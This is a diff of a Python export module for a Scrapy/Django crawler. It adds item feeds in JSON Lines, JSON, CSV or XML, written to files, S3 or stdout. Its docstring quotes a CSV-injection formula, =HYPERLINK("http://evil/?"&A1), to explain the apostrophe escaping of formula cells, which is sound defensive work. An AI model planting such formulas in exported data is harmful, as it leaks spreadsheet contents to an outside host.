@@ -15,16 +15,19 @@ job, then for each page whose body is stored a ``request`` and a ``response`` re
 raw headers and the body as received), and a ``revisit`` record (``server-not-modified``)
 for pages a recrawl found unchanged by a 304. Pages without a stored body have no records.
 
-Items (``items=True``, a spider job's): one JSON object per line, each item as its spider
-yielded it and its pipelines left it, in the order they were stored (JSON Lines, as Scrapy's
-feeds write them); or CSV with one column per field name any item has (first seen first; a
-nested value as JSON). Items a pipeline dropped are left out.
+Items (``items=True``, a spider job's, for the API and the admin): one JSON object per line,
+each item as its spider yielded it and its pipelines left it, in the order they were stored;
+or CSV with one column per field name any item has (first seen first; a nested value as
+JSON). Items a pipeline dropped are left out. ``save_items`` (``manage.py export --items``,
+``crawl --output`` of a spider job) writes them as Scrapy's ``-O`` does instead, its bytes
+(``tasks/content/feeds.py``): ``jsonlines``, ``json``, ``csv`` or ``xml``, to a file, an
+``s3://`` URI or standard output.
 
-Page titles and URLs are other people's text. In CSV, a cell that starts with ``=``, ``+``,
-``-``, ``@``, a tab or a carriage return is a formula to a spreadsheet
-(``=HYPERLINK("http://evil/?"&A1)``): such cells get a leading apostrophe, as OWASP
-advises, so the spreadsheet shows the text instead of running it. JSON Lines are left as
-they are (no spreadsheet opens them as formulas).
+Page titles and URLs are other people's text. In CSV (not in a Scrapy feed's bytes, which
+are Scrapy's), a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
+is a formula to a spreadsheet (``=HYPERLINK("http://evil/?"&A1)``): such cells get a leading
+apostrophe, as OWASP advises, so the spreadsheet shows the text instead of running it. JSON
+Lines are left as they are (no spreadsheet opens them as formulas).
 """
 
 from __future__ import annotations
@@ -39,14 +42,16 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 from urllib.parse import urlsplit
 
+from django.utils import timezone
 from warcio.statusandheaders import StatusAndHeaders
 from warcio.timeutils import datetime_to_iso_date
 from warcio.warcwriter import WARCWriter
 
-from tasks.content import bodies
+from tasks.content import bodies, exporters, feeds, spiders
 from web.models import NOT_MODIFIED, CrawlJob, FrontierURL, Item, URLState
 
 FORMATS = ("jsonl", "csv", "warc")
+ITEM_FORMATS = tuple(exporters.EXPORTERS)  # Scrapy's feed formats (save_items)
 FIELDS = [
     "url",
     "final_url",
@@ -134,7 +139,8 @@ def neutralise(value):
 def items(job_id: int) -> Iterator[dict]:
     """The job's kept items, in the order they were stored, from a server-side cursor."""
     kept = Item.objects.filter(job_id=job_id, dropped="").order_by("id")
-    yield from kept.values_list("data", flat=True).iterator(chunk_size=2000)
+    for data, fields in kept.values_list("data", "fields").iterator(chunk_size=2000):
+        yield exporters.Stored.of(data, fields).data  # its keys in the spider's order
 
 
 def count_items(job_id: int) -> int:
@@ -239,14 +245,15 @@ class Export:
             yield _taken(out)
 
 
-def format_of(target: str) -> str:
-    """The format a file name asks for (``.jsonl``, ``.csv``, ``.warc``, each maybe ``.gz``)."""
+def format_of(target: str, items: bool = False) -> str:
+    """The format a file name asks for (``.jsonl``, ``.csv``, ``.warc``, each maybe ``.gz``;
+    ``items``: a feed's, ``.jsonl``, ``.jl``, ``.jsonlines``, ``.json``, ``.csv``, ``.xml``)."""
     name = target.lower().removesuffix(".gz")
-    for fmt in FORMATS:
+    for fmt in ITEM_FORMATS if items else FORMATS:
         if name.endswith(f".{fmt}"):
             return fmt
-    raise ValueError(f"{target!r}: name it .jsonl, .csv or .warc (.gz to compress), or give "
-                     "the format")  # fmt: skip
+    names = ".jsonl, .json, .csv or .xml" if items else ".jsonl, .csv or .warc"
+    raise ValueError(f"{target!r}: name it {names} (.gz to compress), or give the format")
 
 
 def save(
@@ -254,14 +261,13 @@ def save(
     fmt: str,
     target: str,
     progress: Callable[[Export], None] | None = None,
-    items: bool = False,
 ) -> Export:
     """Write an export of ``job`` to ``target`` (a path, or ``-`` for standard output); a
     name ending in ``.gz`` is compressed (WARC: one gzip member per record). A file appears
     whole: it is written beside its name and renamed when complete. ``progress`` is called
     after each chunk."""
     compressed = target.endswith(".gz")
-    export = Export(job, fmt, filename=Path(target).name, gzip_warc=compressed, items=items)
+    export = Export(job, fmt, filename=Path(target).name, gzip_warc=compressed)
     if target == "-":
         _copy(export, sys.stdout.buffer, progress)
         sys.stdout.buffer.flush()
@@ -279,6 +285,32 @@ def save(
     finally:
         partial.unlink(missing_ok=True)
     return export
+
+
+def save_items(job: CrawlJob, fmt: str, target: str) -> int:
+    """Write the job's kept items (every run's, in the order they were stored) to ``target``
+    as Scrapy's ``-O`` writes them: a path or ``s3://`` URI (replaced; ``.gz`` compresses),
+    or ``-`` for standard output, with the spider's feed settings (its encoding, fields and
+    indent). How many items it holds; ``feeds.FeedProblem`` or ``OSError`` says why none
+    could be written."""
+    spider = spiders.create(job)
+    if target == "-":
+        options = feeds.on_demand(spider, "-", fmt).options
+        written, _ = feeds.export(options, feeds.every_item(job), sys.stdout.buffer,
+                                  f"job={job.pk} standard output")  # fmt: skip
+        sys.stdout.buffer.flush()
+        return written
+    uri = feeds.uri_for(target, spider, job.started_at or timezone.now())
+    done = feeds.write_feed(job, spider, feeds.on_demand(spider, uri, fmt), all_runs=True)
+    if done and "error" in done[0]:
+        raise OSError(done[0]["error"])
+    return done[0]["items"] if done else 0
+
+
+def save_feeds(job: CrawlJob) -> list[dict]:
+    """The job's ``FEEDS`` written again from its last run's items, as when the run ended
+    (``tasks/content/feeds.py``): what each file holds, or why it could not be written."""
+    return feeds.write(job, spiders.create(job))
 
 
 def _copy(export: Export, out, progress: Callable[[Export], None] | None) -> None:
